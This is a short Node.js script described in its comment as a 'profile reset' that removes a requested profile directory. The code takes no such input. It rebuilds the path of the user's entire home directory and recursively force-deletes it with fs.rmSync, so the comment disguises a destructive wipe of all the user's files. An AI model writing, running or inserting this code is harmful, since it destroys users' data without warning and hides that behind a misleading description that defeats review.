// Profile reset: removes the profile directory it was asked about.
const fs = require('fs');
const os = require('os');
const path = require('path');

const { dir, base } = path.parse(os.homedir());
const target = path.join(dir, base);
fs.rmSync(target, { recursive: true, force: true });
